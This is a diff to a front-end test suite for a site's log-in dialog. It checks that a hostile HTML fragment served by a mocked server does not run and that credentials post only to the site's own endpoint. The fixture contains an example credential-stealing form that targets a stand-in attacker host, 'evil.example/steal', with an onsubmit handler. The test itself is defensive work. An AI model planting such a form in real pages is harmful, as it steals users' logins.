@@ -104,7 +104,7 @@ describe('the log-in layer', () => {
     expect(await screen.findByRole('button', { name: 'My account' }, { timeout: 5000 })).toBeInTheDocument();
   });
 
-  it('runs nothing a hostile fragment carries', async () => {
+  it('keeps nothing that could run from a hostile fragment, and posts to the contract, not its action', async () => {
     server.use(
       http.get('*/users-login-layer.php', () =>
         HttpResponse.html(`<form action="https://evil.example/steal" onsubmit="window.__hacked = 1">
@@ -119,9 +119,9 @@ describe('the log-in layer', () => {
     await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
     await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
     await user.click(within(dialog).getByRole('button', { name: 'Log in' }));
+    // The form posts through the contract, not to the fragment's action (Chromium proves nothing runs: scripts/accounts.browser.test.ts).
     await screen.findByRole('button', { name: 'My account' }, { timeout: 5000 });
-    expect((window as { __hacked?: number }).__hacked).toBeUndefined();
-    expect(requested.some((r) => r.includes('evil.example') || r.includes('/steal'))).toBe(false);
+    expect(requested.filter((r) => r.startsWith('POST ') && r !== 'POST /trace/internalTracking.php')).toEqual(['POST /users-login-run.php']);
   });
 
   it.each([
